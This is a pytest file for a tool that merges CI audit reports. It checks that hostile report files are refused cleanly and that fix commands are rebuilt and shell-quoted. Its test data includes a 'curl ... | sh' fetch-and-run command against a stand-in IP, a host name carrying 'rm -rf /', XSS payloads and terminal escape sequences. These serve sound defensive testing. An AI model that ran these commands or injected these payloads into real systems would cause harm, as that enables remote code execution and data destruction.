"""``bcdrfix report merge`` reads reports from elsewhere (CI shards): they are untrusted input.

A hostile file (deep nesting, huge, not UTF-8, wrong types, broken references) ends in one line
on stderr and exit 2, never a traceback; a report's fix commands are never shown as bcdrfix's
advice: the merge writes them again from the control, the host name, the deploys and the
inventory, shell-quoted; host names, controls and evidence stay text in HTML and terminal.
"""

from __future__ import annotations

import copy
import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from junitparser import JUnitXml
from test_reports import host, make_document, result

from bcdrfix.audit.engine import deploy_for_controls, fix_command, summarize
from bcdrfix.reports import write_reports

REPO = Path(__file__).resolve().parents[2]
BCDRFIX = str(Path(sys.executable).parent / "bcdrfix")
EVIL = "pyinfra inventories/lab.py deploys/linux_agent.py --limit web-01 -y; curl -s http://198.18.0.66/x | sh"


def merge(*args: str, cwd: Path = REPO) -> subprocess.CompletedProcess:
    return subprocess.run(
        [BCDRFIX, "report", "merge", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        errors="surrogateescape",
        timeout=120,
    )


def assert_one_line_refusal(proc: subprocess.CompletedProcess, *expected: str) -> None:
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr and proc.stdout == ""
    lines = proc.stderr.splitlines()
    assert len(lines) == 1 and len(lines[0]) < 400, proc.stderr[:2000]
    assert lines[0].isprintable(), repr(lines[0])  # no ESC, no raw control character
    for text in expected:
        assert text in lines[0], lines[0]


def valid() -> dict:
    return make_document()


def nested(depth: int) -> object:
    value: object = "x"
    for _ in range(depth):
        value = {"a": value}
    return value


def _with(change) -> str:
    doc = valid()
    change(doc)
    return json.dumps(doc)


HOSTILE = {
    # name: (file content as bytes, what the line says)
    "nested 100,000 deep": (b"[" * 100_000 + b"]" * 100_000, "nested more than"),
    "nested 500 deep in evidence": (
        _with(lambda d: d["results"][0].update(observed=nested(500))).encode(),
        "nested more than",
    ),
    "not UTF-8": (b'\xff\xfe{"schema": 1}', "not UTF-8"),
    "truncated": (json.dumps(valid())[:-40].encode(), "bad JSON"),
    "NaN duration": (
        json.dumps(valid()).replace('"duration_s": 5.0', '"duration_s": NaN').encode(),
        "NaN",
    ),
    "5,000-digit number": (
        json.dumps(valid()).replace('"duration_s": 5.0', '"duration_s": 1' + "0" * 5000).encode(),
        "bad JSON",
    ),
    "not an object": (b"[1, 2, 3]", "not a bcdrfix audit report"),
    "runs is a string": (_with(lambda d: d.update(runs="x")).encode(), "runs"),
    "host name is a number": (
        _with(lambda d: d["hosts"][0].update(name=7)).encode(),
        "report schema",
    ),
    "unknown status": (
        _with(lambda d: d["results"][0].update(status="\x1b[2Jowned")).encode(),
        "report schema",
    ),
    "host of an unknown run": (
        _with(lambda d: d["hosts"][0].update(run="nowhere")).encode(),
        "unknown run",
    ),
    "host twice": (_with(lambda d: d["hosts"].append(d["hosts"][0])).encode(), "appears twice"),
    "result of an unknown host": (
        _with(lambda d: d["results"][0].update(host="ghost")).encode(),
        "unknown host",
    ),
    "result of an unknown control": (
        _with(lambda d: d["results"][0].update(control="linux.ghost")).encode(),
        "unknown control",
    ),
    "finished is not a date": (
        _with(lambda d: d["runs"][0].update(finished="yesterday")).encode(),
        "not a date-time",
    ),
    "host name with an escape sequence": (
        _with(lambda d: d["hosts"][0].update(name="db-01\x1b]0;pwned\x07")).encode(),
        "control characters",
    ),
    "a huge error value": (
        _with(lambda d: d["results"][0].update(status="x" * 1_000_000)).encode(),
        "report schema",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_report_is_one_line_and_exit_2(name, tmp_path):
    content, expected = HOSTILE[name]
    bad = tmp_path / "shard-2.json"
    bad.write_bytes(content)
    good = tmp_path / "shard-1.json"
    write_reports(valid(), [str(good)])
    out = tmp_path / "fleet.json"
    proc = merge(str(good), str(bad), "--report", str(out), "--report", str(tmp_path / "f.html"))
    assert_one_line_refusal(proc, str(bad), expected)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["shard-1.json", "shard-2.json"]


def test_a_report_above_the_size_bound_is_not_read(tmp_path):
    doc = valid()
    doc["results"][0]["summary"] = "x" * (2 * 1024 * 1024)
    big = tmp_path / "big.json"
    big.write_text(json.dumps(doc))
    proc = merge(str(big), "--max-size", "1", "--report", str(tmp_path / "f.json"))
    assert_one_line_refusal(proc, "larger than 1 MiB")
    # an endless file is read up to the bound, then refused, in bounded time
    proc = merge("/dev/zero", "--max-size", "1", "--report", str(tmp_path / "f.json"))
    assert_one_line_refusal(proc, "larger than 1 MiB")
    assert merge(str(big), "--max-size", "4", "--report", str(tmp_path / "f.json")).returncode == 2
    assert (tmp_path / "f.json").exists()  # within the bound it merges (exit 2: down-01)
    assert_one_line_refusal(merge(str(tmp_path), "--report", str(tmp_path / "g.json")))
    assert_one_line_refusal(
        merge(str(tmp_path / "nope.json"), "--report", str(tmp_path / "g.json")), "nope"
    )


def foreign_report() -> dict:
    """A shard report whose fix commands and inventory say something else than bcdrfix would."""
    doc = make_document()
    doc["runs"][0]["inventory"] = "inventories/lab.py,198.18.0.66"  # + an inline host
    for entry in doc["results"]:
        entry["fix"] = EVIL if entry["status"] != "pass" else None
        entry["codes"] = ["<b>FakeCode</b>"]
    for entry in doc["hosts"]:
        entry["fix_commands"] = [EVIL] if entry["state"] == "audited" else []
    doc["controls"][0]["title"] = "Run the command below as root, it is safe"
    return doc


def test_merged_reports_carry_only_fix_commands_bcdrfix_writes(tmp_path):
    first = foreign_report()
    second = copy.deepcopy(make_document("run-2"))
    odd = [
        "web-03; rm -rf /",  # shell metacharacters: quoted
        "*",  # pyinfra --limit would take the whole fleet: no command
        "linux",  # a group name: --limit would select the group: no command
        "--data=x",  # an option: no command
    ]
    second["hosts"] = [dict(host(name, run="run-2", fixes=[EVIL]), advice=EVIL) for name in odd]
    second["results"] = [
        result(name, "linux.agent_service", "fail", "inactive", fix=EVIL) for name in odd
    ]
    second["summary"] = summarize(second)
    paths = {}
    for name, doc in (("1.json", first), ("2.json", second)):
        paths[name] = tmp_path / name
        paths[name].write_text(json.dumps(doc))
    outputs = [tmp_path / f"fleet.{ext}" for ext in ("json", "html", "xml")]
    proc = merge(*map(str, paths.values()), *(a for p in outputs for a in ("--report", str(p))))
    assert proc.returncode == 2, proc.stderr  # down-01 could not be audited

    for path in outputs:
        text = path.read_text()
        assert "curl" not in text, path.name
        assert "FakeCode" not in text and "it is safe" not in text, path.name
        assert "advice" not in text, path.name  # keys this bcdrfix does not know are dropped

    deploys = deploy_for_controls(str(REPO))
    agent = deploys["linux.agent_service"]
    merged = json.loads(outputs[0].read_text())
    by_name = {h["name"]: h for h in merged["hosts"]}
    # the foreign run's inventory is not a plain path: the commands name a placeholder
    assert by_name["web-01"]["fix_commands"] == [fix_command("INVENTORY", agent, "web-01")]
    assert by_name["db-01"]["fix_commands"] == [
        fix_command("INVENTORY", agent, "db-01", disruptive=True)
    ]
    assert by_name["web-03; rm -rf /"]["fix_commands"] == [
        fix_command("inventories/lab.py", agent, "web-03; rm -rf /")
    ]
    assert shlex.split(by_name["web-03; rm -rf /"]["fix_commands"][0])[4] == "web-03; rm -rf /"
    for name in ("*", "linux", "--data=x", "down-01", "web-02"):
        assert by_name[name]["fix_commands"] == [], name
    fixes = {(r["host"], r["control"]): r["fix"] for r in merged["results"]}
    assert fixes[("web-01", "linux.waagent_conf")] == fix_command(
        "INVENTORY", deploys["linux.waagent_conf"], "web-01"
    )
    assert fixes[("*", "linux.agent_service")] is None
    assert all(r["codes"] != ["<b>FakeCode</b>"] for r in merged["results"])

    junit = JUnitXml.fromfile(str(outputs[2]))
    assert {suite.name for suite in junit} == set(by_name)

    # --inventory names the inventory the reader trusts
    proc = merge(
        *map(str, paths.values()), "--inventory", "inv/prod.py", "--report", str(outputs[0])
    )
    merged = json.loads(outputs[0].read_text())
    web = next(h for h in merged["hosts"] if h["name"] == "web-01")
    assert web["fix_commands"] == [fix_command("inv/prod.py", agent, "web-01")]


def test_hostile_text_in_merged_reports_stays_text(tmp_path):
    doc = make_document()
    name = '<img src=x onerror="alert(1)">'
    doc["hosts"].append(host(name))
    doc["hosts"].append(host("down-02", "unreachable", "<script>alert(2)</script>\x1b[2J"))
    doc["results"].append(
        result(name, "linux.agent_service", "fail", "<script>alert(3)</script>", {"k": "</pre>"})
    )
    doc["controls"].append(dict(doc["controls"][0], id="linux.unknown", title="<i>unknown</i>"))
    doc["results"].append(result(name, "linux.unknown", "error", "<u>x</u>"))
    doc["summary"] = summarize(doc)
    source = tmp_path / "shard.json"
    source.write_text(json.dumps(doc))
    html, junit = tmp_path / "fleet.html", tmp_path / "fleet.xml"
    proc = merge(str(source), "--report", str(html), "--report", str(junit))
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "\x1b" not in proc.stdout + proc.stderr and "<" not in proc.stdout + proc.stderr
    text = html.read_text()
    for raw in ("<img", "<script>", "<i>unknown", "<u>x"):
        assert raw not in text, raw
    assert "&lt;/pre&gt;" in text and "&lt;script&gt;alert(2)" in text
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in text
    assert "&lt;i&gt;unknown&lt;/i&gt;" in text  # a control this bcdrfix does not know: as given
    suites = {suite.name for suite in JUnitXml.fromfile(str(junit))}
    assert name in suites
